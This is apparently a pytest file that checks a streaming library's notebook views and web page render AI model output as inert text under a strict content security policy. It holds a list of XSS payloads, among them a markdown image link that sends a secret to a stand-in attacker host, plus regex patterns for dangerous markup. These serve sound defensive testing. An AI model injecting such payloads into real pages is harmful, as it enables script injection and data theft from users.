"""S3: what a model says is shown as text. The page itself, in a browser, is tested in tests/server/test_page.py."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

import streamflow as sf
import streamflow.notebook as notebook
from streamflow.events import BlockComplete, BlockStart, Chunk, StreamCompleted, StreamStart
from streamflow.operators import visible_filter, xml_block_split
from streamflow.server.access import CSP
from tests.server.serving import serving

PACKAGE = Path(sf.__file__).parent
PAYLOADS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "&lt;script&gt;",
    "\u2028</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "\x00<script>\x00",
    "![x](https://evil.example/?q=secret)",
]
RUN_OR_ASK = ("script", "iframe", "object", "embed", "img", "image", "foreignobject")
MARKUP = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|\.srcdoc|setAttribute\(\"on"


class Seen(HTMLParser):
    """The elements, attributes and words of a document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def dangers(markup: str) -> list[str]:
    """What would run, or ask somebody, in this markup."""
    seen = Seen()
    seen.feed(markup)
    seen.close()
    found = [tag for tag in seen.tags if tag in RUN_OR_ASK]
    for name, value in seen.attributes:
        if name.startswith("on") or name in ("src", "srcdoc", "formaction"):
            found.append(name)
        if name in ("href", "xlink:href") and not (value or "").startswith("#"):
            found.append(f"{name}={value}")
    return found


def answer(payload: str) -> list:
    call = {"tool_id": payload, "tool_name": payload}
    return [
        StreamStart(payload, payload, payload),
        BlockStart(0, "text"),
        Chunk(0, "text", payload),
        BlockComplete(0, "text", payload),
        BlockStart(1, payload, {payload: payload}),
        Chunk(1, payload, payload, False),
        BlockComplete(1, payload, payload, attributes={payload: payload}),
        BlockStart(2, "tool_call"),
        Chunk(2, "tool_call", payload, False, 0, "input", **call),
        BlockComplete(2, "tool_call", payload, error=payload, **call),
        StreamCompleted("other", payload),
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s03_a_transcript_in_a_notebook_shows_words_only(payload):
    assert dangers(notebook.Transcript(answer(payload)).html()) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s03_drawings_in_a_notebook_show_words_only(payload):
    probe = sf.probe(xml_block_split(), visible_filter())
    sf.run(answer(payload), probe)
    for figure in (notebook.Marbles(probe), notebook.Graph(probe), notebook.Timeline(probe)):
        assert dangers(figure._repr_html_()) == []


def test_s03_the_check_itself_finds_what_is_wrong():
    assert all(dangers(f"<p>{payload}</p>") for payload in PAYLOADS[:3])


@pytest.mark.parametrize("file", sorted(PACKAGE.glob("server/page/*")), ids=lambda path: path.name)
def test_s03_the_page_writes_text_and_no_markup(file):
    source = file.read_text()
    assert not re.search(MARKUP, source)
    assert not re.search(r"\son[a-z]+=", source) or file.suffix != ".html"
    assert not re.search(r"https?://(?!www\.w3\.org)", source)


async def test_s03_every_answer_of_the_server_has_the_policy():
    assert "unsafe" not in CSP
    assert "*" not in CSP
    async with serving() as served:
        flow_id = await served.begin("hello")
        for path in ("/", f"/flows/{flow_id}", f"/flows/{flow_id}/events", "/flows/nobody", "/nothing", "/metrics"):
            async with served.session.get(served.root + path) as response:
                assert response.headers["content-security-policy"] == CSP
                assert response.headers["x-content-type-options"] == "nosniff"
                assert "html" not in response.content_type or path == "/"
